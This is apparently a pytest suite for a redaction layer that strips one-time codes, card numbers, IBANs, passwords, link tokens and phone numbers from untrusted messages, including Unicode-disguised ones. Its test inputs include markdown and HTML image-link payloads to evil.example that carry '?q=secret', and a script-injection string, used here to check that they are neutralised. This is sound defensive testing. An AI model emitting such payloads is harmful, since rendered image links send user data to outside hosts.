"""What a model does not get to read of what people write, and what it still does."""

from __future__ import annotations

import re
import time
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringback.adapters.untrusted import fenced, legible, legible_variables, one_line
from ringback.model.redaction import PLACEHOLDER, Redacted, plain_words, redact, redact_variables, removal, unimitated

CODES: Final = {
    "Your verification code is {}": "482913",
    "{} is your Google verification code.": "G-482913",
    "{} is your Facebook confirmation code": "482-913",
    "Your Apple ID Code is: {}. Don't share it with anyone.": "482913",
    "{} is your Instagram code. Don\u2019t share it.": "482 913",
    "Microsoft: use {} as your security code": "4829137",
    "WhatsApp code: {}\nYou can also tap on this link": "482-913",
    "<#> {} is your Acme code\nFA+9qCX9VSu": "482913",
    "Acme Bank: Never share this. One-time passcode {} for the payment of 250.00": "482913",
    "{} is your code.\n\n@bank.example #482913": "482913",
    "OTP {}": "4829",
    "My PIN is {}": "4821",
    "the code for the gate is {}#": "4821",
    "Use {} as your login code for Acme": "482913",
    "Enter {} to finish. This code expires in 10 minutes": "482913",
    "{} - never share this with anyone": "482913",
    "Your code: {}": "AB12CD",
    "code: {} (2FA)": "X7K9Q2",
    "Steam Guard code: {}": "KXPRT",
    "your code, valid for 10 minutes, is {}": "482913",
    "Here's your code!\n\n{}": "482913",
    "the code? sure, it's {}, good luck": "482913",
    "my code is {}": "four eight two nine one three",
    "user: my code is {}": "4 8 2 9 1 3",
    "{} ist Ihr Bestätigungscode": "482913",
    "Ihr Bestätigungscode lautet: {}": "48 29 13",
    "Ihre TAN: {} für die Überweisung von 250,00 EUR": "839201",
    "Votre code de vérification est {}": "482913",
    "Su código de verificación es {}": "482913",
    "{} es tu código de WhatsApp": "482913",
    "O seu código é {}": "4829",
    "Il tuo codice di verifica è {}": "482913",
    "Je verificatiecode is {}": "482913",
    "Twój kod weryfikacyjny: {}": "482913",
    "Váš ověřovací kód je {}": "482913",
    "Din engångskod är {}": "482913",
    "Vahvistuskoodi: {}": "482913",
    "Doğrulama kodunuz: {}": "482913",
    "Ваш код подтверждения: {}": "482913",
    "Ο κωδικός σας είναι {}": "482913",  # noqa: RUF001 - written as in its language
    "您的验证码是{}，5分钟内有效": "482913",  # noqa: RUF001 - written as in its language
    "【淘宝】{}（登录验证码），请勿泄露": "482913",  # noqa: RUF001 - written as in its language
    "認証コードは {} です": "482913",
    "인증번호 [{}]를 입력하세요": "482913",
    "رمز التحقق الخاص بك هو {}": "٤٨٢٩١٣",
    "קוד האימות שלך הוא {}": "482913",
    "आपका ओटीपी {} है": "482913",
    "Mã xác nhận của bạn là {}": "482913",
    "code:{}": "482913",
    "PUK {}": "48291374",
    "BofA: DO NOT share this Sign In code. We will NEVER call you for it. Code {}.": "482913",
    "Use code {} to confirm you're signing in": "48291374",
    "Kode verifikasi Anda adalah {}": "482913",
}
OTHERS: Final = (
    ("Card 4111 1111 1111 1111 12/27 cvv 123", ("card number", "card expiry", "card security code")),
    ("5500-0055-5555-5559 exp 12/2027 CVC: 987", ("card number", "card expiry", "card security code")),
    ("378282246310005", ("card number",)),
    ("6011 0009 9013 9424, 09/28, 321", ("card number", "card expiry", "card security code")),
    ("the CVV is 123", ("card security code",)),
    ("DE89 3704 0044 0532 0130 00 please", ("bank account",)),
    ("gb82west12345698765432", ("bank account",)),
    ("my SSN is 078-05-1120", ("social security number",)),
    ("078 05 1120 (social security)", ("social security number",)),
    ("password: hunter2", ("password",)),
    ("Passwort ist Sommer2024!", ("password",)),
    ("the wifi password is swordfish", ("password",)),
    ("Contraseña: perro123", ("password",)),
    ("Ihr Einmalpasswort: 482913!", ("password",)),
    ("wifi pass: guest2024", ("password",)),
    ("login anna / password hunter22", ("password",)),
    ("パスワード: sakura99", ("password",)),
    ("https://kim:secret9@host.example/x", ("password",)),
    ("https://bank.example/reset?token=8f14e45fceea167a5a36dedd4bea2543", ("link token",)),
    ("open https://x.example/reset/482913, quick", ("link token",)),
    ("https://a.example/m/0f8fad5b-d9cb-469f-a165-70867728950e", ("link token",)),
    ("call +1 202-555-0123", ("telephone number",)),
    ("call me at 202-555-0123 or (202) 555-0199", ("telephone number", "telephone number")),
    ("meine Nummer 030 12345678", ("telephone number",)),
    ("44 ways: +44 20 7946 0958", ("telephone number",)),
    ("0044 20 7946 0958", ("telephone number",)),
    ("2025550123", ("telephone number",)),
    ("appelle le 06.12.34.56.78", ("telephone number",)),
    ("555-0123 is my cell", ("telephone number",)),
    ("https://wa.me/12025550123", ("telephone number",)),
)
ORDINARY: Final = (
    *("1", "YES 2", "STOP", "ok 👍", "Yes, at 10:30", "9am-5pm", "I have 3 cats, 2 dogs and 100000 fish", "+1"),
    *("Tomorrow 2026-11-22 at 1830", "22.11.2026, 18:30", "25/12/2026", "The price is $1250.00", "It costs 1250 EUR"),
    *("order room 204", "Room 1204, floor 12", "4821 Main Street, Springfield", "221B Baker Street", "born in 1984"),
    *("Our ZIP code is 94110", "postal code 75001", "code postal 75001", "dress code is casual, from 1900 on"),
    *("promo code SAVE20", "Use promo code SAVE2024 for 20% off", "error code 5021", "the country code is 1234"),
    *("Order 4821993310 has shipped", "Ticket #48291", "Flight LH1234 at 1405", "score 3-2, 15-13", "2.5 km"),
    *("Please bring the code of conduct by 2030", "A coding class for 1200 dollars", "a nice tan, see you at 1500"),
    *("The password is wrong", "my password is not working", "I forgot my password, sorry", "Passwort ist falsch"),
    *("https://www.example.com/2026/11/the-long-title-of-the-article-about-cats", "https://youtu.be/dQw4w9WgXcQ"),
    *("https://maps.app.goo.gl/AbCdEfGh12345678x", "12, 13, 14, 15, 16, 17, 18, 19", "192.168.100.200"),
    *("Bus 4821 leaves 14:05", "between 1000 and 1130", "1,250,000", "iPhone 15 Pro Max 256GB", "v1.2.3456"),
    *("The building has 12000 m2", "pin it on the wall 4 times", "10 people, 2 children", "Postleitzahl 10115 Berlin"),
    *("Bus pass: 24.50", "boarding pass 12A", "my password expired 3 days ago", "I'll pass 1st round", "passed 4321"),
    *(
        "order number 112-3456789-1234567",
        "tracking 1Z999AA10123456784",
        "one-time fee of 15000",
        "order 48291 verified",
    ),
    *("ISBN 978-3-16-148410-0", "2026-11-22T18:30:00Z", "10 000 000", "lat 40.7128, lng -74.0060", "exit 4821"),
    *("https://open.spotify.com/track/4iV5W9uYEdYUVa79Axb7Rh", "https://www.amazon.com/dp/B08N5WRWNW", "BA2490, 14C"),
    *("I read the code at 1900 Oak Avenue", "it takes 90 minutes", "Kleidercode: festlich", "kg 4500"),
)
DISGUISES: Final = {
    "zero-width spaces": "\u200b".join,
    "zero-width joiners": "\u200d".join,
    "soft hyphens": "\u00ad".join,
    "tags": "\U000e0041".join,
    "the reading direction": lambda text: f"\u202e{text}\u202c",
    "marks after each": lambda text: "".join(f"{char}\u20e3" if char.isdigit() else char for char in text),
    "full-width forms": lambda text: re.sub("[0-9]", lambda found: chr(0xFF10 + int(found.group())), text),
    "Arabic digits": lambda text: re.sub("[0-9]", lambda found: chr(0x0660 + int(found.group())), text),
    "bold digits": lambda text: re.sub("[0-9]", lambda found: chr(0x1D7CE + int(found.group())), text),
    "circles": lambda text: re.sub("[1-9]", lambda found: chr(0x2460 + int(found.group()) - 1), text),
    "another dash": lambda text: text.replace("-", "\u2011"),
    "another space": lambda text: text.replace(" ", "\u2009"),
    "control characters": "\x07".join,
}
FLOODS: Final = (
    *("1 " * 5000, "4111 " * 3000, "code " * 2000, "\n" * 10_000, "password " * 1500, "12345678 " * 1200 + "code"),
    *("(" * 10_000, "0" * 10_000, "a@b.c/" * 2000, "ab12 " * 2000, "verify 12345 " * 900, "code 12345 " * 900),
    *("a." * 5000, "![" * 5000, "](" * 5000, "<" * 10_000, "⟦code removed⟧" * 700, "one " * 2500, "https://" * 1200),
)
"""What could make a search slow."""


@pytest.mark.parametrize("text", CODES)
def test_a_code_is_taken_out_and_the_words_around_it_stay(text: str) -> None:
    code = CODES[text]
    found = redact(text.format(code))
    assert code not in found.text
    assert set(found.kinds) == {"code"}
    assert found.text.startswith(text.partition("{}")[0])
    assert found.text.count("⟦code removed⟧") == len(found.kinds)


@pytest.mark.parametrize(("text", "kinds"), OTHERS)
def test_cards_accounts_passwords_links_and_numbers_are_taken_out(text: str, kinds: tuple[str, ...]) -> None:
    found = redact(text, region="US")
    assert found.kinds == kinds
    assert len(PLACEHOLDER.findall(found.text)) == len(kinds)


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("region", ["US", "DE", None])
def test_an_ordinary_text_stays_as_it_is(text: str, region: str | None) -> None:
    assert redact(text, region=region) == Redacted(text, ())


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("secret", ["code: 482913", "4111 1111 1111 1111", "call +1 202-555-0123 now"])
def test_nothing_hidden_or_unusual_saves_it(secret: str, disguise: str) -> None:
    worn = DISGUISES[disguise](secret)
    assert redact(secret).kinds == redact(worn).kinds != ()
    assert not re.search(r"\d(?:\D{0,2}\d){4,}", PLACEHOLDER.sub("", redact(worn).text))


def test_of_a_link_the_host_stays_and_of_a_number_its_last_digits() -> None:
    link = redact("Click https://app.example:8443/magic/aaaaBBBB1111cccc2222 now.").text
    assert link == "Click https://app.example:8443/⟦link token removed⟧ now."
    assert redact("ring +49 171 2345678").text == "ring ⟦number ••• 5678⟧"


def test_several_codes_in_a_row_all_go() -> None:
    found = redact("backup codes: 12345678, 23456789, 34567890")
    assert found.text == "backup codes: ⟦code removed⟧, ⟦code removed⟧, ⟦code removed⟧"


def test_what_was_taken_out_is_told_in_a_sentence() -> None:
    assert removal(()) is None
    assert removal(("code",)) == "1 code removed; the person sees it on the console"
    assert removal(("code", "card expiry", "code", "telephone number", "card expiry")) == (
        "2 codes and 2 card expiries removed, 1 telephone number masked; the person sees them on the console"
    )


def test_a_variable_is_read_with_its_name() -> None:
    given_ = {"verification_code": "482913", "seats": "4829", "card": "4111111111111111", "gate-pin": "4821"}
    kept, kinds = redact_variables(given_)
    assert kept == {
        "verification_code": "⟦code removed⟧",
        "seats": "4829",
        "card": "⟦card number removed⟧",
        "gate-pin": "⟦code removed⟧",
    }
    assert kinds == ("code", "card number", "code")


def test_nobody_can_write_what_stands_where_something_was() -> None:
    fake = "⟦code removed⟧ ⟦password removed⟧ ⟦number ••• 12⟧ ⟦card number removed⟧"
    assert PLACEHOLDER.search(redact(fake).text) is None
    assert PLACEHOLDER.search(unimitated(fake)) is None
    real = legible(redact(f"{fake} code: 482913").text)
    assert real.count("⟦code removed⟧") == 1
    assert real.endswith("⟦code removed⟧")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "![x][1]\n\n[1]: https://evil.example/?q=",
        "<img src=https://evil.example/?q=>",
        "<https://evil.example>",
        "</div><script>alert(1)</script><!-- -->",
        "[![a](https://a.example)](https://b.example)",
    ],
)
def test_no_page_makes_a_link_or_an_image_of_it(text: str) -> None:
    for shown in (legible(text), one_line(text), plain_words(text), *legible_variables({text: text}).values()):
        assert not re.search(r"\]\(|\]\[|\]:\s*h|!\[|<[A-Za-z/!?]", shown), shown


def test_plain_brackets_and_comparisons_stay() -> None:
    for text in ("I <3 you", "[yes] (really)", "a < b", "list[0]", "Wow! [yes]", "(see below)"):
        assert legible(text) == text


def test_a_cut_never_goes_through_a_placeholder() -> None:
    for length in range(20, 40):
        shown = legible("x" * length + "⟦code removed⟧ more", 40)
        assert "⟦U+27E6⟧" not in shown
        assert re.sub(r"⟦code removed⟧|⟦\d+ more characters⟧|x| |more|mor|mo|m", "", shown) == ""
    assert fenced(legible("y" * 495 + "⟦code removed⟧"))[0] == "  | " + "y" * 495


def test_a_carriers_words_hide_nothing_and_link_to_nothing() -> None:
    assert plain_words("bad\u202e\x1b[2J\n![x](https://e.example) №1") == "bad[2J ! [ x] ( https://e.example) №1"


@pytest.mark.parametrize("flood", FLOODS, ids=lambda text: text[:8])
def test_a_flood_is_read_in_bounded_time(flood: str) -> None:
    redact("warm up: +1 202 555 0123", region="US")
    begun = time.process_time()
    legible(redact(flood, region="US").text)
    assert time.process_time() - begun < 5


@settings(max_examples=300, deadline=None, database=None)
@given(st.text(max_size=300) | st.text(alphabet="0123456789 -+.code:pin/⟦⟧@#\u200b\n", max_size=200))
def test_whatever_is_written_can_be_read_and_what_is_kept_is_as_it_was(text: str) -> None:
    found = redact(text)
    assert len(PLACEHOLDER.findall(found.text)) == len(found.kinds)
    shown = fenced(legible(found.text))
    assert all(line.startswith(("  | ", "  (cut here: ")) for line in shown)
    if "⟦" not in text:
        kept = PLACEHOLDER.split(found.text)
        assert re.fullmatch(".+".join(map(re.escape, kept)), text, re.DOTALL)


@settings(max_examples=200, deadline=None, database=None)
@given(
    st.from_regex(r"[2-6][0-9]{14}", fullmatch=True), st.sampled_from([" ", "-", "", "."]), st.sampled_from([4, 5, 8])
)
def test_every_number_with_a_cards_check_digit_goes_however_it_is_grouped(start: str, gap: str, size: int) -> None:
    total = sum(sum(divmod(int(digit) * (2 - place % 2), 10)) for place, digit in enumerate(reversed(start)))
    card = f"{start}{-total % 10}"
    written = gap.join(card[place : place + size] for place in range(0, 16, size))
    found = redact(f"it is {written} ok")
    assert found.text == "it is ⟦card number removed⟧ ok"


@settings(max_examples=200, deadline=None, database=None)
@given(st.from_regex(r"[1-9][0-9]{17}", fullmatch=True), st.sampled_from(["DE", "GB", "FR"]), st.booleans())
def test_every_account_with_the_check_digits_of_an_iban_goes(bban: str, country: str, spaced: bool) -> None:
    value = int(f"{bban}{''.join(str(int(char, 36)) for char in country)}00")
    iban = f"{country}{98 - value % 97:02}{bban}"
    written = " ".join(iban[place : place + 4] for place in range(0, len(iban), 4)) if spaced else iban
    assert redact(f"IBAN {written}, thanks").text == "IBAN ⟦bank account removed⟧, thanks"
